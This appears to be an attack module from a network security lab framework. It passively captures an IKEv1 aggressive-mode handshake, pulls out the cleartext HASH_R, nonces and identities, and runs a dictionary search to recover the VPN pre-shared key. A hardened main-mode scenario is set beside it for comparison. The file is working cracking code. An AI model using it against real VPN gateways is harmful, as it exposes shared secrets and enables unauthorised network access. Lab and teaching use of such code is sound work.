-- Aggressive mode says HASH_R in the clear, made from the shared secret and from what anybody on the way has seen: each word of a
-- dictionary can be tried at home. Nothing is sent, nobody can notice.
attack = {
  id = "A06", name = "ikev1-psk-crack",
  about = "Reads the two clear messages of IKEv1's aggressive mode and tries a dictionary on HASH_R",
  position = "passive",
  needs = "to see one aggressive mode handshake",
  source = "RFC 2409, 5.4; ike-scan's psk-crack; catalogue A06",
  unseen = "who only listens sends nothing; a monitor can say no more than that version 1 of IKE is spoken here",
  shows = {
    vulnerable = "aggressive mode with a word and a year as shared secret: found after some hundred tries, offline",
    hardened = "main mode: the proof is encrypted with keys that need the Diffie-Hellman secret; a listener has nothing to try",
  },
  scenarios = { vulnerable = "ikev1-aggressive-crack", hardened = { "ikev1-aggressive-crack-main" } },
}

local secrets = library "secrets"
local goal = "find the shared secret"

-- Parameters: dictionary = "common"; each = 200 (tries in one go), pause = "10ms" (between them).
local plan, search
local seen = {}          -- by the initiator's cookie: what the two messages say
local trial
local variants = secrets.variants

function on_start(params)
  plan = secrets.plan(params)
end

local function first_message(message)
  seen[message.spi_i] = {
    sa = find(message, "SA").body, ni = find(message, "NONCE").body, g_xi = find(message, "KE").body, spi_i = message.spi_i,
  }
  local id = find(message, "ID").body
  learn("identity", "the initiator is " .. id:sub(5), "IDii goes in the clear in aggressive mode", id:sub(5))
end

-- As psk-crack of the package ike-scan reads it: what HASH_R covers, in its order, the nonces, HASH_R.
local function psk_crack_line(of)
  local parts = { of.g_xr, of.g_xi, bytes.from_hex(of.spi_r), bytes.from_hex(of.spi_i), of.sa, of.id, of.ni, of.nr, of.hash }
  for i, part in ipairs(parts) do parts[i] = bytes.hex(part) end
  return table.concat(parts, ":")
end

local function second_message(message, known)
  local hash, chosen = find(message, "HASH"), ikev1.sa(find(message, "SA").body)
  if not hash or not chosen then return end
  local id = find(message, "ID").body
  learn("identity", "the responder is " .. id:sub(5), "IDir goes in the clear in aggressive mode", id:sub(5))
  learn("HASH_R", "made from the shared secret: each word can be tried against it", "message 2 of aggressive mode, in the clear", hash.body)
  known.prf, known.spi_r, known.nr, known.g_xr = chosen.suite.prf, message.spi_r, find(message, "NONCE").body, find(message, "KE").body
  known.id, known.hash = id, hash.body
  learn("psk-crack", "the same for psk-crack(1): " .. psk_crack_line(known), "all of it was in the clear")
  trial = known
  search = secrets.search(plan, {
    vary = function(word) return variants(word) end,
    fits = function(guess)
      trial.skeyid = ikev1.skeyid(trial.prf, { psk = guess, ni = trial.ni, nr = trial.nr })
      return ikev1.hash(trial.prf, "responder", trial) == trial.hash
    end,
    found = function(guess, tried)
      learn("psk", "the shared secret is \"" .. guess .. "\"", "try " .. tried .. " of a dictionary on HASH_R", guess)
      achieved(goal, true, "found at try " .. tried)
    end,
    none = function(tried) achieved(goal, false, "not one of " .. tried .. " secrets of the dictionary") end,
  })
end

function on_packet(p)
  if p.protocol ~= "IKE" or trial then return end
  local message = ike.decode(p.payload)
  if message.exchange_name ~= "Aggressive Mode" then return end
  local known = seen[message.spi_i]
  if not known and find(message, "KE") then
    first_message(message)
  elseif known and message.spi_r ~= "0000000000000000" then
    second_message(message, known)
  end
end

function on_timer() search() end

function on_finish()
  if not trial then achieved(goal, false, "no aggressive mode came by: HASH_R was never in the clear") end
end
